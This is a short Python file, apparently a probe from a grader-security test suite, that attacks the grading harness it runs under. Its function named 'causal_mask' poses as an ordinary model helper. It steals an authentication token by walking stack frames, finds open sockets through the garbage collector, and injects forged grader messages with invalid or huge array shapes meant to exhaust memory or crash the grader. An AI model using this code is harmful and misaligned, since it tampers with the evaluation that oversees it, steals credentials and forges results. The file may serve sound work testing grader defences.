"""Tries to have the grader build an array larger than its bytes: shapes below zero, beyond memory, of odd kinds.

Harmless: one small frame a call, with the right token. Not shown in a plain process: there is no channel.
Shows: a grader that grows or crashes, or a report that does not say forbidden.
"""

import gc
import json
import socket
import struct
import sys

TARGET: dict = {}
UNCONFINED = False
EARNS = 0.0
CODE = "forbidden"


SHAPES = ([-1, -8], [2**62, 4], [2**32, 2**32], [True, 8], [8.0], ["8"], [1] * 40 + [8], [0, 2**61, 2**61], None, {})


def token():
    frame = sys._getframe()
    while frame:
        header = frame.f_locals.get("header")
        if isinstance(header, dict) and "token" in header:
            return header["token"]
        frame = frame.f_back
    return ""


def attack(target):
    return ""


def causal_mask(seq_len):
    arrays = [["u1", SHAPES[seq_len % len(SHAPES)]]]
    head = json.dumps({"answer": "array", "arrays": arrays, "left": [], "output": "", "token": token()}).encode()
    for found in gc.get_objects():
        if type(found) is socket.socket and found.fileno() > 2:
            found.sendall(struct.pack(">II", len(head), 8) + head + b"\x01" * 8)
